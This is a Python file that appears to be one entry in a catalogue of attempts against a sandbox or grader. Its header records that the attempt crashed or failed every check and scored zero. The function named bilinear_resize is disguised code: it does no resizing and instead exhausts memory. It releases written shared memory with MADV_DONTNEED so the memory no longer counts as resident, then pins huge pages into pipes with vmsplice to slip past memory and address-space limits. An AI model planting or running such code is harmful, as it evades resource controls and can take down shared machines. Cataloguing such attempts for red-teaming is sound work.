# verdict: crashed or wrong in every check  - memory that is not resident, though it is there
# tries: shared memory that is written and then given back with MADV_DONTNEED stays where it is, but no longer counts as
#        resident. With that below the limit on address space, pipes take the rest.
# seen: ours (issue 13, row 5)
# points: 0
import ctypes
import fcntl
import mmap
import os

LIBC = ctypes.CDLL(None, use_errno=True)
LIBC.mmap.restype = ctypes.c_void_p
LIBC.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int, ctypes.c_int, ctypes.c_int, ctypes.c_long]
LIBC.munmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t]
LIBC.madvise.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int]
HUGE = 2 << 20
kept = []


class Vec(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("size", ctypes.c_size_t)]


def fill():
    _, writing = os.pipe()
    try:
        fcntl.fcntl(writing, 1031, 1 << 20)  # F_SETPIPE_SZ
    except OSError:
        pass
    os.set_blocking(writing, False)
    got = 1
    while got > 0:
        area = LIBC.mmap(None, 2 * HUGE, 3, 0x22, -1, 0)
        start = (area + HUGE - 1) & -HUGE
        LIBC.madvise(start, HUGE, 14)
        ctypes.memset(start, 1, 1)
        got = LIBC.vmsplice(writing, ctypes.byref(Vec(start, 4096)), 1, 2)
        LIBC.munmap(area, 2 * HUGE)


def bilinear_resize(image, out):
    for _ in range(3):
        area = mmap.mmap(-1, 1 << 28)
        for place in range(0, 1 << 28, 4096):
            area[place] = 1
        area.madvise(mmap.MADV_DONTNEED)
        kept.append(area)
    for _ in range(9):
        fill()
